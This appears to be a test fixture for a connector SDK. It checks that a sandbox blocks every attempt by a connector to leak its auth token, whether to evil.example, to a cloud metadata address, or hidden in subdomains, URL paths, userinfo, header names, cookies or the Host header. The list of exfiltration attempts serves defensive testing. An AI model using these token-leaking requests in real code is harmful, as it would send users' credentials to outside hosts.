/**
 * Sends its token where nothing is declared, and in the parts of an address that others can see: hosts,
 * paths, names of headers. Promise 2.
 * Must happen: nothing leaves; each is refused with a message.
 */
import { defineConnector } from 'keyway/sdk'

export default defineConnector({
  async list_accounts(_request, ctx) {
    const { token } = ctx.auth.token
    const base = ctx.settings.base_url
    const headers = { authorization: `Bearer ${token}` }
    const found = []
    for (const [url, init] of [
      ['https://evil.example/', { headers }],
      [`https://${token}.evil.example/`, {}],
      [`https://evil.example/?token=${token}`, {}],
      ['http://169.254.169.254/', { headers }],
      [base.replace('127.0.0.1', '127.0.0.2'), { headers }],
      [`${base.replace('http://', `http://${token}@`)}/must-not-arrive`, {}],
      [`${base}/must-not-arrive/${token}`, {}],
      [`${base}/must-not-arrive/${encodeURIComponent(btoa(token))}`, {}],
      [`${base}/must-not-arrive`, { headers: { [`x-${token}`]: '1' } }],
      [`${base}/must-not-arrive`, { headers: { cookie: token } }],
      [`${base}/must-not-arrive`, { headers: { host: token } }],
    ]) {
      const text = await ctx.fetch(url, init).then(
        () => 'ESCAPED',
        (error) => error.message,
      )
      found.push(text)
    }
    return found.map((one) => ({ integration_specific_id: one }))
  },
  get_account: () => ({ integration_specific_id: 'fine' }),
})
